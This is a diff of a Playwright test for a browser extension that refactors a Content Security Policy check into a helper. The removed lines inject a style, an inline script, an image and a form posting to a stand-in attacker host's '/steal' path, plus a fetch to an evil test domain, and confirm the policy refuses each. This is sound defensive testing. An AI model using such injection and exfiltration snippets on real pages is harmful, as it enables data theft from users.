@@ -5,6 +5,7 @@
 import { readFile } from 'node:fs/promises';
 import type { BrowserContext, Page, Route } from '@playwright/test';
 import { expect, extensionServiceWorker, openYouTube, test } from '../support/chromium-extension';
+import { CSP_REFUSED_DIRECTIVES, probeCsp } from '../support/csp-probe';
 import { clipOnYouTube, openReportPage } from '../support/report-page';
 import { openSidePanelPage, tabIdOf } from '../support/side-panel';
 import { readStoredData } from '../support/stored-data';
@@ -215,25 +216,8 @@ test('the popup, report page and side panel run under the extension-page CSP', a
   pages.push(['side panel', panel]);
 
   for (const [name, page] of pages) {
-    const look = await pageLook(page);
-    // What a script of ours could be tricked into inserting: each is refused by the policy.
-    const violated = await page.evaluate(async (host) => {
-      const directives: string[] = [];
-      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
-      const style = document.createElement('style');
-      style.textContent = 'body { background: rgb(255, 0, 0) !important }';
-      document.head.append(style);
-      document.body.insertAdjacentHTML('beforeend', `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form data-test="evil" action="${host}/steal"><input name="q"></form>`);
-      const script = document.createElement('script');
-      script.textContent = 'window.__inlineRan = true';
-      document.body.append(script);
-      const fetched = await fetch('http://images.evil.test/plain-http').then(() => 'fetched', () => 'refused');
-      document.querySelector<HTMLFormElement>('form[data-test="evil"]')?.requestSubmit();
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      return { directives: [...new Set(directives)].sort(), inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, fetched };
-    }, EVIL_HOST);
-    expect(violated, name).toEqual({ directives: ['connect-src', 'form-action', 'img-src', 'script-src-elem', 'style-src-attr', 'style-src-elem'], inlineRan: false, fetched: 'refused' });
-    expect(await pageLook(page), name).toEqual(look);
+    const outcome = await page.evaluate(probeCsp, { host: EVIL_HOST, expected: CSP_REFUSED_DIRECTIVES });
+    expect(outcome, name).toEqual({ directives: CSP_REFUSED_DIRECTIVES, inlineRan: false, fetched: 'refused', sameLook: true });
   }
   expect(requests).toEqual([]);
 });
